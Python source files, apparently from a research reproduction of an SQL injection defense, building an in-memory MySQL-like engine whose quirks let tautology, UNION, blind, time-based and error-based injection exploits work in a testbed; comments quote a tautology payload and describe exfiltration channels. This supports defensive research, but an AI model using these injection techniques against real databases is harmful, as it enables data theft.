class PreparedStatement:
    """A parsed template plus an execute-with-parameters method.

    Construction validates the template's syntax once (placeholders are
    legal expression positions); each :meth:`execute` binds and runs.
    """

    def __init__(self, db, sql: str) -> None:
        self.db = db
        self.sql = sql
        try:
            parse_statement(sql)
        except SqlParseError as exc:
            raise SqlSyntaxError(
                f"cannot prepare statement: {exc}"
            ) from exc
        self.parameter_count = len(_placeholder_tokens(sql))

    def execute(self, params=()):
        """Bind ``params`` and execute; returns the engine's QueryResult."""
        return self.db.execute(bind_parameters(self.sql, params))
