"""Table schema definitions for the in-memory engine."""

from __future__ import annotations

import enum
from dataclasses import dataclass, field

from .errors import ColumnNotFoundError

__all__ = ["ColumnType", "Column", "TableSchema"]


class ColumnType(enum.Enum):
    """Storage types.  MySQL-style loose coercion happens at evaluation time."""

    INTEGER = "integer"
    REAL = "real"
    TEXT = "text"


@dataclass(frozen=True)
class Column:
    """One column definition."""

    name: str
    type: ColumnType = ColumnType.TEXT
    primary_key: bool = False
    auto_increment: bool = False
    unique: bool = False
    default: object = None

    def coerce(self, value: object) -> object:
        """Coerce an inserted value to the column's storage type.

        MySQL silently coerces on insert; we do the same but keep ``None``
        (NULL) untouched and fall back to the raw value when coercion fails,
        mirroring MySQL's permissive non-strict mode.
        """
        if value is None:
            return None
        try:
            if self.type is ColumnType.INTEGER:
                return int(value)
            if self.type is ColumnType.REAL:
                return float(value)
            return str(value)
        except (TypeError, ValueError):
            return value


@dataclass
class TableSchema:
    """Ordered column collection with name lookup."""

    name: str
    columns: list[Column] = field(default_factory=list)

    def __post_init__(self) -> None:
        self._by_name = {c.name.lower(): c for c in self.columns}

    def column(self, name: str) -> Column:
        """Look up a column case-insensitively or raise ColumnNotFoundError."""
        col = self._by_name.get(name.lower())
        if col is None:
            raise ColumnNotFoundError(
                f"Unknown column '{name}' in table '{self.name}'"
            )
        return col

    def has_column(self, name: str) -> bool:
        return name.lower() in self._by_name

    @property
    def column_names(self) -> list[str]:
        return [c.name for c in self.columns]

    @property
    def auto_increment_column(self) -> Column | None:
        for col in self.columns:
            if col.auto_increment:
                return col
        return None
