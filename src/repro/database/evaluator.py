"""Expression evaluation with MySQL-flavoured semantics.

Exploits only demonstrate anything if the engine honours the quirks they
rely on:

- **Loose comparison coercion** -- comparing a string with a number converts
  the string via prefix parse (``'1abc' -> 1``, ``'abc' -> 0``) so the
  canonical tautology ``'x' OR 1=1`` really selects everything.
- **Three-valued logic** -- NULL propagates through comparisons, AND/OR
  follow SQL's truth tables.
- **Timing functions** -- ``SLEEP(n)`` and ``BENCHMARK(n, e)`` advance a
  *virtual clock* on the evaluation context instead of blocking, so
  double-blind exploits can observe response-time differences without the
  test-suite actually sleeping.
- **Error-based channels** -- ``EXTRACTVALUE``/``UPDATEXML`` raise database
  errors embedding the evaluated argument, the classic error-based
  exfiltration channel.
"""

from __future__ import annotations

import hashlib
import math
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Callable

from ..sqlparser import ast_nodes as ast
from .errors import ColumnNotFoundError, DatabaseError, UnknownFunctionError

if TYPE_CHECKING:  # pragma: no cover
    from .executor import Database

__all__ = ["VirtualClock", "RowScope", "EvalContext", "Evaluator", "sql_truth", "AGGREGATE_FUNCTIONS"]

#: Aggregate function names handled by grouped evaluation.
AGGREGATE_FUNCTIONS = frozenset({"count", "sum", "avg", "min", "max", "group_concat"})

#: Virtual cost (seconds) charged per million BENCHMARK iterations, roughly
#: matching MD5 benchmark speed on commodity hardware circa the paper.
_BENCHMARK_COST_PER_MILLION = 0.25


class VirtualClock:
    """Accumulates simulated execution delay (used by SLEEP/BENCHMARK)."""

    def __init__(self) -> None:
        self.elapsed = 0.0

    def advance(self, seconds: float) -> None:
        if seconds > 0:
            self.elapsed += float(seconds)


@dataclass
class RowScope:
    """Name-resolution scope for one logical row.

    ``sources`` maps a table alias (lowercased) to that source's row dict.
    Unqualified lookups search all sources; ambiguity resolves to the first
    source in FROM order (MySQL raises, but permissiveness keeps the testbed
    applications simple and is irrelevant to taint analysis).
    """

    sources: list[tuple[str | None, dict[str, object]]] = field(default_factory=list)
    parent: "RowScope | None" = None

    def lookup(self, name: str, table: str | None = None) -> object:
        want = name.lower()
        for alias, row in self.sources:
            if table is not None and (alias or "").lower() != table.lower():
                continue
            for col_name, value in row.items():
                if col_name.lower() == want:
                    return value
        if self.parent is not None:
            return self.parent.lookup(name, table)
        qualifier = f"{table}." if table else ""
        raise ColumnNotFoundError(f"Unknown column '{qualifier}{name}' in 'field list'")

    def all_columns(self, table: str | None = None) -> list[tuple[str, object]]:
        """Column (name, value) pairs in FROM order, optionally one table's."""
        out: list[tuple[str, object]] = []
        for alias, row in self.sources:
            if table is not None and (alias or "").lower() != table.lower():
                continue
            out.extend(row.items())
        return out


@dataclass
class EvalContext:
    """Everything expression evaluation may need."""

    db: "Database"
    scope: RowScope
    clock: VirtualClock
    group: list[RowScope] | None = None  # rows of the current group, if aggregating


def _coerce_number(value: object) -> float | int:
    """MySQL's string-to-number coercion: longest numeric prefix, else 0."""
    if value is None:
        return 0
    if isinstance(value, bool):
        return int(value)
    if isinstance(value, (int, float)):
        return value
    text = str(value).strip()
    best: float | int = 0
    for end in range(len(text), 0, -1):
        chunk = text[:end]
        try:
            return int(chunk)
        except ValueError:
            try:
                return float(chunk)
            except ValueError:
                continue
    return best


def sql_truth(value: object) -> bool | None:
    """SQL truthiness: NULL -> None, zero/empty-numeric string -> False."""
    if value is None:
        return None
    num = _coerce_number(value)
    return num != 0


def _compare(left: object, right: object) -> int | None:
    """Three-valued comparison; returns -1/0/1 or None for NULL operands."""
    if left is None or right is None:
        return None
    if isinstance(left, str) and isinstance(right, str):
        l, r = left.lower(), right.lower()  # MySQL default collation is CI
        return (l > r) - (l < r)
    lnum, rnum = _coerce_number(left), _coerce_number(right)
    return (lnum > rnum) - (lnum < rnum)


def _like_to_regex(pattern: str) -> "re.Pattern[str]":
    import re

    out: list[str] = []
    i = 0
    while i < len(pattern):
        ch = pattern[i]
        if ch == "\\" and i + 1 < len(pattern):
            out.append(re.escape(pattern[i + 1]))
            i += 2
            continue
        if ch == "%":
            out.append(".*")
        elif ch == "_":
            out.append(".")
        else:
            out.append(re.escape(ch))
        i += 1
    return re.compile("^" + "".join(out) + "$", re.IGNORECASE | re.DOTALL)


class Evaluator:
    """Evaluates :mod:`repro.sqlparser.ast_nodes` expressions."""

    def __init__(self, context: EvalContext) -> None:
        self.ctx = context

    # ------------------------------------------------------------------

    def eval(self, expr: ast.Expr) -> object:
        method: Callable[[ast.Expr], object] | None = getattr(
            self, f"_eval_{type(expr).__name__.lower()}", None
        )
        if method is None:
            raise DatabaseError(f"cannot evaluate {type(expr).__name__}")
        return method(expr)

    # -- leaves ---------------------------------------------------------

    def _eval_literal(self, expr: ast.Literal) -> object:
        if isinstance(expr.value, bool):
            return int(expr.value)
        return expr.value

    def _eval_columnref(self, expr: ast.ColumnRef) -> object:
        return self.ctx.scope.lookup(expr.name, expr.table)

    def _eval_star(self, expr: ast.Star) -> object:
        raise DatabaseError("'*' is only valid as a select item")

    def _eval_placeholder(self, expr: ast.Placeholder) -> object:
        raise DatabaseError(f"unbound placeholder {expr.name!r}")

    # -- operators -------------------------------------------------------

    def _eval_unary(self, expr: ast.Unary) -> object:
        if expr.op == "not" or expr.op == "!":
            truth = sql_truth(self.eval(expr.operand))
            if truth is None:
                return None
            return int(not truth)
        if expr.op == "binary":
            return self.eval(expr.operand)
        value = self.eval(expr.operand)
        if value is None:
            return None
        num = _coerce_number(value)
        if expr.op == "-":
            return -num
        if expr.op == "+":
            return num
        if expr.op == "~":
            return ~int(num)
        raise DatabaseError(f"unknown unary operator {expr.op!r}")

    def _eval_binary(self, expr: ast.Binary) -> object:
        op = expr.op
        if op in ("and", "&&"):
            left = sql_truth(self.eval(expr.left))
            if left is False:
                return 0
            right = sql_truth(self.eval(expr.right))
            if right is False:
                return 0
            if left is None or right is None:
                return None
            return 1
        if op in ("or", "xor"):
            left = sql_truth(self.eval(expr.left))
            if op == "or" and left is True:
                return 1
            right = sql_truth(self.eval(expr.right))
            if op == "or":
                if right is True:
                    return 1
                if left is None or right is None:
                    return None
                return 0
            if left is None or right is None:
                return None
            return int(left != right)
        lval = self.eval(expr.left)
        rval = self.eval(expr.right)
        if op in ("=", "<=>", "<>", "!=", "<", "<=", ">", ">="):
            if op == "<=>":
                if lval is None and rval is None:
                    return 1
                cmp_ = _compare(lval, rval)
                return 0 if cmp_ is None else int(cmp_ == 0)
            cmp_ = _compare(lval, rval)
            if cmp_ is None:
                return None
            return int(
                {
                    "=": cmp_ == 0,
                    "<>": cmp_ != 0,
                    "!=": cmp_ != 0,
                    "<": cmp_ < 0,
                    "<=": cmp_ <= 0,
                    ">": cmp_ > 0,
                    ">=": cmp_ >= 0,
                }[op]
            )
        if lval is None or rval is None:
            return None
        lnum, rnum = _coerce_number(lval), _coerce_number(rval)
        if op == "+":
            return lnum + rnum
        if op == "-":
            return lnum - rnum
        if op == "*":
            return lnum * rnum
        if op in ("/",):
            return None if rnum == 0 else lnum / rnum
        if op in ("%", "mod"):
            return None if rnum == 0 else math.fmod(lnum, rnum)
        if op == "div":
            return None if rnum == 0 else int(lnum // rnum)
        if op == "&":
            return int(lnum) & int(rnum)
        if op == "|":
            return int(lnum) | int(rnum)
        if op == "<<":
            return int(lnum) << int(rnum)
        if op == ">>":
            return int(lnum) >> int(rnum)
        raise DatabaseError(f"unknown binary operator {op!r}")

    # -- predicates ------------------------------------------------------

    def _eval_inlist(self, expr: ast.InList) -> object:
        needle = self.eval(expr.needle)
        if needle is None:
            return None
        values: list[object] = []
        for item in expr.items:
            if isinstance(item, ast.SubqueryExpr):
                for row in self.ctx.db._execute_select(item.select, self.ctx):
                    values.extend(row.values())
            else:
                values.append(self.eval(item))
        saw_null = False
        for value in values:
            cmp_ = _compare(needle, value)
            if cmp_ is None:
                saw_null = True
            elif cmp_ == 0:
                return 0 if expr.negated else 1
        if saw_null:
            return None
        return 1 if expr.negated else 0

    def _eval_between(self, expr: ast.Between) -> object:
        needle = self.eval(expr.needle)
        low = self.eval(expr.low)
        high = self.eval(expr.high)
        lo_cmp = _compare(needle, low)
        hi_cmp = _compare(needle, high)
        if lo_cmp is None or hi_cmp is None:
            return None
        inside = lo_cmp >= 0 and hi_cmp <= 0
        return int(inside != expr.negated)

    def _eval_isnull(self, expr: ast.IsNull) -> object:
        value = self.eval(expr.operand)
        return int((value is None) != expr.negated)

    def _eval_like(self, expr: ast.Like) -> object:
        value = self.eval(expr.operand)
        pattern = self.eval(expr.pattern)
        if value is None or pattern is None:
            return None
        matched = bool(_like_to_regex(str(pattern)).match(str(value)))
        return int(matched != expr.negated)

    def _eval_caseexpr(self, expr: ast.CaseExpr) -> object:
        if expr.operand is not None:
            subject = self.eval(expr.operand)
            for when, then in expr.whens:
                if _compare(subject, self.eval(when)) == 0:
                    return self.eval(then)
        else:
            for when, then in expr.whens:
                if sql_truth(self.eval(when)) is True:
                    return self.eval(then)
        return self.eval(expr.default) if expr.default is not None else None

    def _eval_subqueryexpr(self, expr: ast.SubqueryExpr) -> object:
        rows = self.ctx.db._execute_select(expr.select, self.ctx)
        if not rows:
            return None
        if len(rows) > 1:
            # MySQL ER_SUBQUERY_NO_1_ROW -- the oracle conditional-error
            # blind exploits provoke on purpose.
            raise DatabaseError("Subquery returns more than 1 row")
        first = rows[0]
        return next(iter(first.values()), None)

    def _eval_existsexpr(self, expr: ast.ExistsExpr) -> object:
        rows = self.ctx.db._execute_select(expr.select, self.ctx)
        return int(bool(rows))

    # -- functions ---------------------------------------------------------

    def _eval_functioncall(self, expr: ast.FunctionCall) -> object:
        name = expr.name.lower()
        if name in AGGREGATE_FUNCTIONS:
            return self._eval_aggregate(name, expr)
        # Short-circuiting built-ins: time-based blind payloads depend on the
        # un-taken branch of IF() *not* executing its SLEEP().
        if name == "if":
            if len(expr.args) != 3:
                raise DatabaseError("IF() requires 3 arguments")
            cond = sql_truth(self.eval(expr.args[0]))
            return self.eval(expr.args[1] if cond is True else expr.args[2])
        if name == "ifnull":
            if len(expr.args) != 2:
                raise DatabaseError("IFNULL() requires 2 arguments")
            first = self.eval(expr.args[0])
            return first if first is not None else self.eval(expr.args[1])
        if name == "coalesce":
            for arg in expr.args:
                value = self.eval(arg)
                if value is not None:
                    return value
            return None
        handler = getattr(self, f"_fn_{name}", None)
        if handler is None:
            raise UnknownFunctionError(f"FUNCTION {name} does not exist")
        args = [self.eval(a) for a in expr.args]
        return handler(args)

    def _eval_aggregate(self, name: str, expr: ast.FunctionCall) -> object:
        group = self.ctx.group
        if group is None:
            raise DatabaseError(f"aggregate {name.upper()}() used outside aggregation")
        values: list[object] = []
        seen: set[object] = set()
        for row_scope in group:
            sub = Evaluator(
                EvalContext(self.ctx.db, row_scope, self.ctx.clock, group=None)
            )
            if name == "count" and expr.args and isinstance(expr.args[0], ast.Star):
                values.append(1)
                continue
            if not expr.args:
                if name == "count":
                    values.append(1)
                continue
            value = sub.eval(expr.args[0])
            if value is None:
                continue
            if expr.distinct:
                if value in seen:
                    continue
                seen.add(value)
            values.append(value)
        if name == "count":
            return len(values)
        if not values:
            return None
        if name == "sum":
            return sum(_coerce_number(v) for v in values)
        if name == "avg":
            return sum(_coerce_number(v) for v in values) / len(values)
        if name == "min":
            return min(values, key=_coerce_number) if not all(
                isinstance(v, str) for v in values
            ) else min(values)
        if name == "max":
            return max(values, key=_coerce_number) if not all(
                isinstance(v, str) for v in values
            ) else max(values)
        if name == "group_concat":
            return ",".join(str(v) for v in values)
        raise UnknownFunctionError(name)

    # Individual built-ins.  Each takes the list of already-evaluated args.

    def _fn_sleep(self, args: list[object]) -> object:
        seconds = _coerce_number(args[0]) if args else 0
        self.ctx.clock.advance(float(seconds))
        return 0

    def _fn_benchmark(self, args: list[object]) -> object:
        iterations = _coerce_number(args[0]) if args else 0
        self.ctx.clock.advance(float(iterations) / 1e6 * _BENCHMARK_COST_PER_MILLION)
        return 0

    def _fn_version(self, args: list[object]) -> object:
        return self.ctx.db.server_version

    def _fn_sysvar(self, args: list[object]) -> object:
        name = str(args[0]).lower() if args else ""
        if name == "version":
            return self.ctx.db.server_version
        return self.ctx.db.session_variables.get(name)

    def _fn_user(self, args: list[object]) -> object:
        return self.ctx.db.current_user

    _fn_username = _fn_user
    _fn_current_user = _fn_user

    def _fn_database(self, args: list[object]) -> object:
        return self.ctx.db.name

    _fn_schema = _fn_database

    def _fn_concat(self, args: list[object]) -> object:
        if any(a is None for a in args):
            return None
        return "".join(str(a) for a in args)

    def _fn_concat_ws(self, args: list[object]) -> object:
        if not args or args[0] is None:
            return None
        sep = str(args[0])
        return sep.join(str(a) for a in args[1:] if a is not None)

    def _fn_char(self, args: list[object]) -> object:
        return "".join(chr(int(_coerce_number(a))) for a in args if a is not None)

    def _fn_ascii(self, args: list[object]) -> object:
        text = str(args[0]) if args and args[0] is not None else ""
        return ord(text[0]) if text else 0

    _fn_ord = _fn_ascii

    def _fn_hex(self, args: list[object]) -> object:
        value = args[0] if args else None
        if value is None:
            return None
        if isinstance(value, (int, float)):
            return format(int(value), "X")
        return str(value).encode("utf-8").hex().upper()

    def _fn_unhex(self, args: list[object]) -> object:
        if not args or args[0] is None:
            return None
        try:
            return bytes.fromhex(str(args[0])).decode("utf-8", "replace")
        except ValueError:
            return None

    def _fn_length(self, args: list[object]) -> object:
        return None if not args or args[0] is None else len(str(args[0]))

    def _fn_lower(self, args: list[object]) -> object:
        return None if not args or args[0] is None else str(args[0]).lower()

    def _fn_upper(self, args: list[object]) -> object:
        return None if not args or args[0] is None else str(args[0]).upper()

    def _fn_trim(self, args: list[object]) -> object:
        return None if not args or args[0] is None else str(args[0]).strip()

    def _fn_ltrim(self, args: list[object]) -> object:
        return None if not args or args[0] is None else str(args[0]).lstrip()

    def _fn_rtrim(self, args: list[object]) -> object:
        return None if not args or args[0] is None else str(args[0]).rstrip()

    def _fn_substring(self, args: list[object]) -> object:
        if not args or args[0] is None:
            return None
        text = str(args[0])
        start = int(_coerce_number(args[1])) if len(args) > 1 else 1
        length = int(_coerce_number(args[2])) if len(args) > 2 else None
        if start > 0:
            begin = start - 1
        elif start < 0:
            begin = len(text) + start
        else:
            return ""
        chunk = text[begin:]
        if length is not None:
            chunk = chunk[: max(length, 0)]
        return chunk

    _fn_substr = _fn_substring
    _fn_mid = _fn_substring

    def _fn_left(self, args: list[object]) -> object:
        if len(args) < 2 or args[0] is None:
            return None
        return str(args[0])[: max(int(_coerce_number(args[1])), 0)]

    def _fn_right(self, args: list[object]) -> object:
        if len(args) < 2 or args[0] is None:
            return None
        count = max(int(_coerce_number(args[1])), 0)
        return str(args[0])[-count:] if count else ""

    def _fn_replace(self, args: list[object]) -> object:
        if len(args) < 3 or any(a is None for a in args[:3]):
            return None
        return str(args[0]).replace(str(args[1]), str(args[2]))

    # IF / IFNULL / COALESCE are short-circuiting and handled directly in
    # _eval_functioncall (their un-taken branches must not execute SLEEP).

    def _fn_nullif(self, args: list[object]) -> object:
        if len(args) < 2:
            return None
        return None if _compare(args[0], args[1]) == 0 else args[0]

    def _fn_cast(self, args: list[object]) -> object:
        if len(args) < 2 or args[0] is None:
            return None
        target = str(args[1]).lower()
        if target in ("signed", "unsigned", "integer", "int"):
            return int(_coerce_number(args[0]))
        if target in ("decimal", "real", "double", "float"):
            return float(_coerce_number(args[0]))
        return str(args[0])

    _fn_convert = _fn_cast

    def _fn_md5(self, args: list[object]) -> object:
        if not args or args[0] is None:
            return None
        return hashlib.md5(str(args[0]).encode("utf-8")).hexdigest()

    def _fn_sha1(self, args: list[object]) -> object:
        if not args or args[0] is None:
            return None
        return hashlib.sha1(str(args[0]).encode("utf-8")).hexdigest()

    def _fn_floor(self, args: list[object]) -> object:
        return None if not args or args[0] is None else math.floor(_coerce_number(args[0]))

    def _fn_ceil(self, args: list[object]) -> object:
        return None if not args or args[0] is None else math.ceil(_coerce_number(args[0]))

    _fn_ceiling = _fn_ceil

    def _fn_round(self, args: list[object]) -> object:
        if not args or args[0] is None:
            return None
        digits = int(_coerce_number(args[1])) if len(args) > 1 else 0
        return round(_coerce_number(args[0]), digits)

    def _fn_abs(self, args: list[object]) -> object:
        return None if not args or args[0] is None else abs(_coerce_number(args[0]))

    def _fn_rand(self, args: list[object]) -> object:
        # Deterministic: derived from a seeded counter on the database so
        # repeated runs are reproducible (tests depend on it).
        return self.ctx.db._next_rand()

    def _fn_now(self, args: list[object]) -> object:
        return self.ctx.db.current_timestamp

    _fn_curdate = _fn_now
    _fn_curtime = _fn_now

    def _fn_instr(self, args: list[object]) -> object:
        if len(args) < 2 or any(a is None for a in args[:2]):
            return None
        return str(args[0]).find(str(args[1])) + 1

    def _fn_locate(self, args: list[object]) -> object:
        if len(args) < 2 or any(a is None for a in args[:2]):
            return None
        return str(args[1]).find(str(args[0])) + 1

    def _fn_repeat(self, args: list[object]) -> object:
        if len(args) < 2 or args[0] is None:
            return None
        return str(args[0]) * max(int(_coerce_number(args[1])), 0)

    def _fn_reverse(self, args: list[object]) -> object:
        return None if not args or args[0] is None else str(args[0])[::-1]

    def _fn_space(self, args: list[object]) -> object:
        return " " * max(int(_coerce_number(args[0])), 0) if args else ""

    def _fn_strcmp(self, args: list[object]) -> object:
        if len(args) < 2:
            return None
        cmp_ = _compare(args[0], args[1])
        return cmp_

    def _fn_greatest(self, args: list[object]) -> object:
        if not args or any(a is None for a in args):
            return None
        return max(args, key=_coerce_number)

    def _fn_least(self, args: list[object]) -> object:
        if not args or any(a is None for a in args):
            return None
        return min(args, key=_coerce_number)

    def _fn_elt(self, args: list[object]) -> object:
        if len(args) < 2 or args[0] is None:
            return None
        index = int(_coerce_number(args[0]))
        return args[index] if 1 <= index < len(args) else None

    def _fn_field(self, args: list[object]) -> object:
        if not args or args[0] is None:
            return 0
        for idx, candidate in enumerate(args[1:], start=1):
            if _compare(args[0], candidate) == 0:
                return idx
        return 0

    def _fn_find_in_set(self, args: list[object]) -> object:
        if len(args) < 2 or any(a is None for a in args[:2]):
            return None
        items = str(args[1]).split(",")
        needle = str(args[0])
        return items.index(needle) + 1 if needle in items else 0

    def _fn_format(self, args: list[object]) -> object:
        if len(args) < 2 or args[0] is None:
            return None
        return f"{_coerce_number(args[0]):,.{int(_coerce_number(args[1]))}f}"

    def _fn_lpad(self, args: list[object]) -> object:
        if len(args) < 3 or any(a is None for a in args[:3]):
            return None
        text, width, pad = str(args[0]), int(_coerce_number(args[1])), str(args[2])
        if len(text) >= width:
            return text[:width]
        fill = (pad * width)[: width - len(text)]
        return fill + text

    def _fn_rpad(self, args: list[object]) -> object:
        if len(args) < 3 or any(a is None for a in args[:3]):
            return None
        text, width, pad = str(args[0]), int(_coerce_number(args[1])), str(args[2])
        if len(text) >= width:
            return text[:width]
        return text + (pad * width)[: width - len(text)]

    def _fn_make_set(self, args: list[object]) -> object:
        if not args or args[0] is None:
            return None
        bits = int(_coerce_number(args[0]))
        chosen = [
            str(value)
            for idx, value in enumerate(args[1:])
            if value is not None and bits & (1 << idx)
        ]
        return ",".join(chosen)

    def _fn_load_file(self, args: list[object]) -> object:
        return None  # filesystem access denied, as on hardened MySQL

    def _fn_extractvalue(self, args: list[object]) -> object:
        # Error-based exfiltration channel: an XPath starting with a
        # non-path character raises an error that embeds the value.
        xpath = str(args[1]) if len(args) > 1 and args[1] is not None else ""
        if xpath and not xpath.startswith(("/", ".")):
            raise DatabaseError(f"XPATH syntax error: '{xpath[:32]}'")
        return ""

    def _fn_updatexml(self, args: list[object]) -> object:
        xpath = str(args[1]) if len(args) > 1 and args[1] is not None else ""
        if xpath and not xpath.startswith(("/", ".")):
            raise DatabaseError(f"XPATH syntax error: '{xpath[:32]}'")
        return str(args[0]) if args and args[0] is not None else ""

    def _fn_interval(self, args: list[object]) -> object:
        return _coerce_number(args[0]) if args else 0
