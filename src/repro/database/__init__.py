"""In-memory SQL database engine substrate.

Stands in for the MySQL backend of the paper's testbed.  The engine executes
the AST produced by :mod:`repro.sqlparser`, with MySQL-flavoured coercion and
error semantics so every exploit class in Table I genuinely functions:

- union-based exfiltration (``UNION SELECT``),
- standard-blind (distinguishable :class:`DatabaseError` subclasses),
- double-blind (``SLEEP``/``BENCHMARK`` advance a virtual clock exposed as
  :attr:`QueryResult.elapsed`),
- tautologies (loose string/number comparison).
"""

from .errors import (
    ColumnCountMismatchError,
    ColumnNotFoundError,
    DatabaseError,
    DuplicateKeyError,
    SqlSyntaxError,
    TableNotFoundError,
    UnknownFunctionError,
)
from .evaluator import VirtualClock, sql_truth
from .executor import Database, QueryResult
from .prepared import PreparedStatement, bind_parameters, quote_literal
from .schema import Column, ColumnType, TableSchema
from .storage import Table

__all__ = [
    "ColumnCountMismatchError",
    "ColumnNotFoundError",
    "DatabaseError",
    "DuplicateKeyError",
    "SqlSyntaxError",
    "TableNotFoundError",
    "UnknownFunctionError",
    "VirtualClock",
    "sql_truth",
    "Database",
    "QueryResult",
    "PreparedStatement",
    "bind_parameters",
    "quote_literal",
    "Column",
    "ColumnType",
    "TableSchema",
    "Table",
]
