"""Database error hierarchy.

Standard-blind SQL injection (paper Table I) works by provoking *errors* for
invalid payloads and valid results otherwise, so the engine must fail loudly
and distinguishably.  Every error carries a MySQL-style ``errno`` that the
simulated applications can surface (or swallow) the way real PHP code does.
"""

from __future__ import annotations

__all__ = [
    "DatabaseError",
    "SqlSyntaxError",
    "TableNotFoundError",
    "ColumnNotFoundError",
    "ColumnCountMismatchError",
    "DuplicateKeyError",
    "UnknownFunctionError",
]


class DatabaseError(Exception):
    """Base class for all engine errors."""

    errno = 1105  # ER_UNKNOWN_ERROR

    def __init__(self, message: str) -> None:
        super().__init__(message)
        self.message = message


class SqlSyntaxError(DatabaseError):
    """The statement could not be parsed (ER_PARSE_ERROR)."""

    errno = 1064


class TableNotFoundError(DatabaseError):
    """Referenced table does not exist (ER_NO_SUCH_TABLE)."""

    errno = 1146


class ColumnNotFoundError(DatabaseError):
    """Referenced column does not exist (ER_BAD_FIELD_ERROR)."""

    errno = 1054


class ColumnCountMismatchError(DatabaseError):
    """UNION branches or INSERT row width disagree (ER_WRONG_VALUE_COUNT)."""

    errno = 1222


class DuplicateKeyError(DatabaseError):
    """Unique/primary key violation (ER_DUP_ENTRY)."""

    errno = 1062


class UnknownFunctionError(DatabaseError):
    """Call to a function the engine does not implement (ER_SP_DOES_NOT_EXIST)."""

    errno = 1305
