"""Statement execution for the in-memory SQL engine.

:class:`Database` is the backend DBMS stand-in of the reproduction.  The
testbed web applications issue their queries here through the Joza wrappers,
exactly as the paper's WordPress testbed issues queries to MySQL.  The
engine is deliberately deterministic: ``RAND()`` is seeded, ``NOW()`` is a
counter-based timestamp, and timing side effects accumulate on a virtual
clock carried by the :class:`~repro.database.evaluator.EvalContext` --
double-blind exploits read ``QueryResult.elapsed`` rather than wall time.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from ..sqlparser import ast_nodes as ast
from ..sqlparser.parser import SqlParseError, parse_statement
from .errors import (
    ColumnCountMismatchError,
    DatabaseError,
    SqlSyntaxError,
    TableNotFoundError,
)
from .evaluator import (
    AGGREGATE_FUNCTIONS,
    EvalContext,
    Evaluator,
    RowScope,
    VirtualClock,
    sql_truth,
)
from .schema import Column, ColumnType, TableSchema
from .storage import Table

__all__ = ["Database", "QueryResult"]


@dataclass
class QueryResult:
    """Outcome of one executed statement.

    Attributes:
        columns: projected column names (empty for DML).
        rows: result rows as tuples aligned with ``columns``.
        rowcount: rows affected (DML) or returned (queries).
        lastrowid: auto-increment id of the last inserted row, or 0.
        elapsed: virtual seconds consumed (``SLEEP``/``BENCHMARK``); the
            observable for double-blind exploits.
    """

    columns: list[str] = field(default_factory=list)
    rows: list[tuple] = field(default_factory=list)
    rowcount: int = 0
    lastrowid: int = 0
    elapsed: float = 0.0

    def first(self) -> tuple | None:
        """First row or ``None`` -- mirrors ``mysql_fetch_row`` idioms."""
        return self.rows[0] if self.rows else None

    def scalar(self) -> object:
        """First column of the first row, or ``None``."""
        row = self.first()
        return row[0] if row else None

    def dicts(self) -> list[dict[str, object]]:
        """Rows as dicts keyed by column name."""
        return [dict(zip(self.columns, row)) for row in self.rows]


def _contains_aggregate(expr: ast.Expr) -> bool:
    """Whether an expression tree contains an aggregate call (not crossing subqueries)."""
    if isinstance(expr, ast.FunctionCall):
        if expr.name.lower() in AGGREGATE_FUNCTIONS:
            return True
        return any(_contains_aggregate(a) for a in expr.args)
    if isinstance(expr, ast.Unary):
        return _contains_aggregate(expr.operand)
    if isinstance(expr, ast.Binary):
        return _contains_aggregate(expr.left) or _contains_aggregate(expr.right)
    if isinstance(expr, ast.InList):
        return _contains_aggregate(expr.needle) or any(
            _contains_aggregate(i) for i in expr.items if not isinstance(i, ast.SubqueryExpr)
        )
    if isinstance(expr, ast.Between):
        return any(
            _contains_aggregate(e) for e in (expr.needle, expr.low, expr.high)
        )
    if isinstance(expr, (ast.IsNull,)):
        return _contains_aggregate(expr.operand)
    if isinstance(expr, ast.Like):
        return _contains_aggregate(expr.operand) or _contains_aggregate(expr.pattern)
    if isinstance(expr, ast.CaseExpr):
        parts: list[ast.Expr] = []
        if expr.operand is not None:
            parts.append(expr.operand)
        for when, then in expr.whens:
            parts.extend((when, then))
        if expr.default is not None:
            parts.append(expr.default)
        return any(_contains_aggregate(p) for p in parts)
    return False


def _item_name(item: ast.SelectItem, index: int) -> str:
    if item.alias:
        return item.alias
    expr = item.expr
    if isinstance(expr, ast.ColumnRef):
        return expr.name
    if isinstance(expr, ast.FunctionCall):
        return f"{expr.name}(...)"
    if isinstance(expr, ast.Literal):
        return str(expr.value)
    return f"expr_{index}"


class Database:
    """An in-memory, single-connection SQL database.

    Typical use::

        db = Database("wordpress")
        db.create_table(TableSchema("posts", [Column("id", ColumnType.INTEGER,
            primary_key=True, auto_increment=True), Column("title")]))
        db.execute("INSERT INTO posts (title) VALUES ('hello')")
        result = db.execute("SELECT * FROM posts WHERE id = 1")
    """

    def __init__(
        self,
        name: str = "app",
        *,
        server_version: str = "5.5.41-joza-sim",
        current_user: str = "webapp@localhost",
        rand_seed: int = 0x5EED,
    ) -> None:
        self.name = name
        self.server_version = server_version
        self.current_user = current_user
        self.session_variables: dict[str, object] = {"version": server_version}
        self.tables: dict[str, Table] = {}
        self._rand_state = rand_seed & 0x7FFFFFFF or 1
        self._timestamp_counter = 0
        self.query_log: list[str] = []

    # ------------------------------------------------------------------
    # Schema / deterministic environment
    # ------------------------------------------------------------------

    def create_table(self, schema: TableSchema) -> Table:
        """Register a table; replaces any existing table of the same name."""
        table = Table(schema)
        self.tables[schema.name.lower()] = table
        return table

    def table(self, name: str) -> Table:
        lowered = name.lower()
        if lowered.startswith("information_schema."):
            return self._information_schema(lowered.split(".", 1)[1])
        table = self.tables.get(lowered)
        if table is None:
            raise TableNotFoundError(f"Table '{self.name}.{name}' doesn't exist")
        return table

    def _information_schema(self, view: str) -> Table:
        """Virtual ``information_schema`` views, rebuilt per access.

        Real union-based exploits enumerate ``information_schema.tables`` /
        ``.columns`` to discover where the secrets live; SQLMap's extraction
        phase depends on them.
        """
        if view == "tables":
            schema = TableSchema(
                "information_schema.tables",
                [
                    Column("table_schema", ColumnType.TEXT),
                    Column("table_name", ColumnType.TEXT),
                    Column("table_rows", ColumnType.INTEGER),
                ],
            )
            table = Table(schema)
            for name, stored in sorted(self.tables.items()):
                table.insert(
                    {
                        "table_schema": self.name,
                        "table_name": name,
                        "table_rows": len(stored),
                    }
                )
            return table
        if view == "columns":
            schema = TableSchema(
                "information_schema.columns",
                [
                    Column("table_schema", ColumnType.TEXT),
                    Column("table_name", ColumnType.TEXT),
